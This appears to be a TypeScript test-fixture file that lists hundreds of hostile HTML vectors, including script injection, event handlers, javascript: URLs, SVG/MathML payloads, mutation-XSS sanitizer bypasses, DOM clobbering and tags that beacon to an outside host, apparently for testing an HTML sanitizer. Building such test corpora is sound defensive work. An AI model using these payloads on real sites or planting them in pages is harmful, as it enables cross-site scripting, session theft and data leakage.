// Hostile HTML: scripts, handlers, addresses that run, frames, forms, foreign elements, markup that changes when it is read twice, names
// that hide those of a document, and whatever loads something.
import { combined, family, type Vector } from './vectors.js';

const HANDLER = 'src=x onerror="$JS"';

const scripts = family('script', [
  '<script>$JS</script>',
  '<SCRIPT SRC="$U"></SCRIPT>',
  '<scr<script>ipt>$JS</scr</script>ipt>',
  '<script type="module">$JS</script>',
  '<script/x y>$JS</script >',
  '<script\n>$JS</script\t\n bar>',
  '<script type="importmap">{"imports":{"a":"$U"}}</script><script type="module">import "a"</script>',
  '<script type="speculationrules">{"prefetch":[{"source":"list","urls":["$U"]}]}</script>',
  '<template shadowrootmode="open"><script>$JS</script></template>',
  '<noscript><p title="</noscript><script>$JS</script>"></noscript>',
  '<<script>$JS//<</script>',
  '<script>//<!--\n</script><script>$JS//--></script>',
]);

const handlers = family('handler', [
  `<img ${HANDLER}>`,
  `<img/${HANDLER}/>`,
  '<img src=x:x onerror\n=\n$JS>',
  '<img src=x ONERROR=&#x24;JS onload="$JS">',
  `<image ${HANDLER}>`,
  '<body onload="$JS" onpageshow="$JS" onfocus="$JS">',
  '</p><body onhashchange="$JS" onresize="$JS"><p>',
  '<details open ontoggle="$JS">x</details>',
  '<input autofocus onfocus="$JS">',
  '<select autofocus onfocus="$JS"><option>x</select>',
  '<textarea autofocus onfocus="$JS">x</textarea>',
  '<button autofocus onfocus="$JS" popovertarget="p">x</button><div popover id="p" onbeforetoggle="$JS">y</div>',
  '<p tabindex="0" autofocus onfocus="$JS">x</p>',
  '<a href="#x" autofocus onfocus="$JS" accesskey="x" onclick="$JS">x</a>',
  '<marquee onstart="$JS" loop="1">x</marquee>',
  `<video><source ${HANDLER}></video>`,
  '<audio src="$U" onerror="$JS" autoplay>',
  '<iframe onload="$JS"></iframe>',
  '<object data="$U" onerror="$JS"></object>',
  '<embed src="$U" onload="$JS">',
  '<link rel="stylesheet" href="$U" onload="$JS" onerror="$JS">',
  '<style onload="$JS"></style>',
  '<style>@keyframes k{to{color:red}} p{animation:k 1ms}</style><p onanimationstart="$JS" onanimationend="$JS">x</p>',
  '<p style="content-visibility:auto" oncontentvisibilityautostatechange="$JS">x</p>',
  '<div style="width:9999px;height:9999px" onpointerover="$JS" onmousemove="$JS" onwheel="$JS">x</div>',
]);

const ADDRESSES = [
  'javascript:$JS',
  'JaVaScRiPt:$JS',
  ' &#1; javascript:$JS',
  'java&#9;script:$JS',
  'java&#10;script&colon;$JS',
  '&#106;&#97;vascript:$JS',
  'javascript://%0a$JS',
  'data:text/html,<script>$JS</script>',
  'data:text/html;base64,PHNjcmlwdD50b3AucHduZWQ9MTwvc2NyaXB0Pg==',
  'vbscript:msgbox(1)',
  'view-source:javascript:$JS',
  'blob:$U',
];
const addresses = [
  ...combined('address', ['<a href="$X" style="display:block;font-size:40px">press here</a>'], ADDRESSES),
  ...combined(
    'address',
    [
      '<iframe src="$X"></iframe>',
      '<form action="$X"><button style="font-size:40px">press here</button></form>',
      '<object data="$X"></object>',
      '<embed src="$X">',
      '<img src="$X">',
    ],
    ['javascript:$JS', 'data:text/html,<script>$JS</script>'],
  ),
  ...family('address', [
    '<map name="m"><area shape="rect" coords="0,0,999,999" href="javascript:$JS"></map><img usemap="#m" width="400" height="200">',
    '<button formaction="javascript:$JS" style="font-size:40px">press here</button>',
    '<a href="$U" ping="$U/ping" target="_top">x</a>',
    '<a href="//$H/x" target="_parent">x</a>',
  ]),
];

const frames = family('frame', [
  '<iframe src="$U"></iframe>',
  '<iframe srcdoc="<script>$JS</script><img src=$U>"></iframe>',
  '<iframe src="/inbox" width="2000" height="2000"></iframe>',
  '<iframe src="about:blank" name="x"></iframe><a href="$U" target="x">x</a>',
  '<frameset cols="*"><frame src="$U"></frameset>',
  '<object data="$U" type="text/html"></object>',
  '<object type="image/svg+xml" data="data:image/svg+xml,<svg onload=$JS xmlns=http://www.w3.org/2000/svg>"></object>',
  '<embed src="$U" type="application/pdf">',
  '<portal src="$U"></portal><fencedframe src="$U"></fencedframe>',
  '<applet code="x" codebase="$U"></applet>',
]);

const forms = family('form', [
  '<form action="$U" method="post"><input name="a" value="b"><input type="submit" style="font-size:40px" value="press here"></form>',
  '<form action="/api/sessions" method="post"><button style="font-size:40px">press here</button></form>',
  '<form id="f" action="$U"></form><button form="f" style="font-size:40px">press here</button>',
  '<button formaction="$U" style="font-size:40px">press here</button>',
  '<input type="image" src="$U">',
  '<form action="$U"><input type="password" name="p" autofocus></form>',
  '<isindex action="$U" prompt="x">',
  '<form method="dialog" action="$U"><input type="text" autofocus><button>x</button></form>',
]);

const documents = family('document', [
  '<meta http-equiv="refresh" content="0;url=$U">',
  '<meta http-equiv="refresh" content="0; url=javascript:$JS">',
  '<META HTTP-EQUIV="ReFrEsH" CONTENT="0;$U">',
  '<meta http-equiv="set-cookie" content="pwned=1">',
  '<meta http-equiv="content-security-policy" content="img-src *; script-src * \'unsafe-inline\'"><img src="$U"><script>$JS</script>',
  '<meta http-equiv="x-dns-prefetch-control" content="on"><a href="$U">x</a>',
  '<base href="$U"><img src="a.png"><a href="b">x</a>',
  '<base target="_top"><a href="$U">x</a>',
  ...[
    'stylesheet',
    'preload" as="image',
    'prefetch',
    'dns-prefetch',
    'preconnect',
    'modulepreload',
    'icon',
    'manifest',
    'prerender',
  ].map((relation) => `<link rel="${relation}" href="$U">`),
  '<html manifest="$U"><head profile="$U"></head>',
]);

const vectorImages = family('svg', [
  '<svg onload="$JS"></svg>',
  '<svg><script>$JS</script></svg>',
  '<svg><script href="$U"/></svg>',
  '<svg><image href="$U" width="9" height="9"/></svg>',
  '<svg><use href="$U#x"/><use xlink:href="data:image/svg+xml,<svg id=x onload=$JS>#x"/></svg>',
  '<svg><a xlink:href="javascript:$JS"><text y="40" font-size="40">press here</text></a></svg>',
  '<svg><a><animate attributeName="href" values="javascript:$JS"/><text y="40" font-size="40">press here</text></a></svg>',
  '<svg><set attributeName="onmouseover" to="$JS"/><animate onbegin="$JS" attributeName="x" dur="1s"/></svg>',
  `<svg><foreignObject><img ${HANDLER}></foreignObject></svg>`,
  '<svg><filter id="f"><feImage href="$U"/></filter><rect filter="url(#f)" width="99" height="99"/></svg>',
  '<svg><style>@import "$U"; rect{fill:url($U#a)}</style><rect width="9" height="9"/></svg>',
  `<svg><style><img ${HANDLER}></style></svg>`,
  `<svg><title><img ${HANDLER}></title><desc><img ${HANDLER}></desc></svg>`,
]);

const formulas = family('mathml', [
  '<math href="javascript:$JS"><mtext>press here</mtext></math>',
  '<math><maction actiontype="statusline#$U" xlink:href="javascript:$JS">press here</maction></math>',
  `<math><annotation-xml encoding="text/html"><img ${HANDLER}></annotation-xml></math>`,
  `<math><mtext><mglyph><img ${HANDLER}></mglyph></mtext></math>`,
  '<math><mi xlink:href="data:x,<script>$JS</script>">press here</mi></math>',
  '<math><script>$JS</script><style>*{background:url($U)}</style></math>',
]);

const IN_TITLE = '&lt;img src=x onerror=&quot;$JS&quot;&gt;';
const mutations = family('mutation', [
  `<svg></p><style><a id="</style><img ${HANDLER}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${IN_TITLE}">`,
  `<form><math><mtext></form><form><mglyph><style></math><img ${HANDLER}>`,
  `<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img ${HANDLER}>">`,
  `<svg><p><style><g title="</style><img ${HANDLER}>">`,
  ...['title', 'xmp', 'iframe', 'noembed', 'noframes', 'noscript', 'textarea', 'style', 'plaintext', 'script'].map(
    (name) => `<${name}><p title="</${name}><img src=x onerror=$JS>">`,
  ),
  `<select><style></select><img ${HANDLER}></style></select>`,
  `<template><p title="</template><img ${HANDLER}>"></template>`,
  `<!--><img ${HANDLER}>-->`,
  `<!-- --!><img ${HANDLER}> -->`,
  `<![CDATA[><img ${HANDLER}>]]>`,
  `<?x ><img ${HANDLER}>?>`,
  '<p title="`><img src=x onerror=$JS>`">x</p>',
  `<table><td><svg><style><td title="</style><img ${HANDLER}>">`,
  `${'<b><table>'.repeat(300)}<img ${HANDLER}>`,
  `${'<div>'.repeat(600)}<svg><style><img ${HANDLER}></style>`,
  '<img\0 src=x one\0rror="$JS"><scr\0ipt>$JS</scr\0ipt>',
  '<a href="x" title="</a><script>$JS</script>">x</a><p id="x&gt;<script>$JS</script>">',
]);

const names = family('clobbering', [
  ...[
    'attributes',
    'childNodes',
    'parentNode',
    'nodeName',
    'removeChild',
    'firstChild',
    'setAttribute',
    'namespaceURI',
  ].map((name) => `<form onclick="$JS"><input name="${name}"><img ${HANDLER}></form>`),
  '<form name="body"><img name="implementation"><img name="createElement"></form>',
  '<a id="defaultView"></a><a id="defaultView" name="trustedTypes" href="x:y"></a>',
  '<img name="cookie"><img id="location" src="$U"><object id="document"></object>',
  '<p id="__proto__" class="constructor">x</p><p id="page">y</p><div class="mansio-destination mansio-quote">z</div>',
]);

const loads = family('load', [
  '<img src="$U">',
  '<img src="https://$H/x.png" loading="eager" fetchpriority="high">',
  '<img src="//$H/x.png">',
  '<img src="http:\\\\$H\\x.png">',
  '<img src="h&#9;ttp://$H/x.png">',
  '<img srcset="$U 1x, $U/2 2x" sizes="100vw">',
  '<picture><source srcset="$U"><img src="$U"></picture>',
  '<img lowsrc="$U" dynsrc="$U" longdesc="$U">',
  '<img src="ftp://$H/x.png"><img src="ws://$H/x">',
  '<img src="/api/image-proxy?url=$U"><img src="/api/emails">',
  '<body background="$U"><table background="$U"><tr background="$U"><td background="$U">x</table>',
  '<video src="$U" poster="$U" autoplay></video>',
  '<audio controls preload="auto"><source src="$U"></audio><track src="$U">',
  '<input type="image" src="$U"><bgsound src="$U">',
  '<q cite="$U">x</q><ins cite="$U">y</ins><blockquote cite="$U">z</blockquote>',
  "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='$JS'><image href='$U'/></svg>\">",
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InRvcC5wd25lZD0xIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4=">',
  '<a href="$U">x</a><a href="https://$H/y" attributionsrc="$U">y</a><img attributionsrc="$U">',
]);

export const HTML_VECTORS: readonly Vector[] = [
  ...scripts,
  ...handlers,
  ...addresses,
  ...frames,
  ...forms,
  ...documents,
  ...vectorImages,
  ...formulas,
  ...mutations,
  ...names,
  ...loads,
];
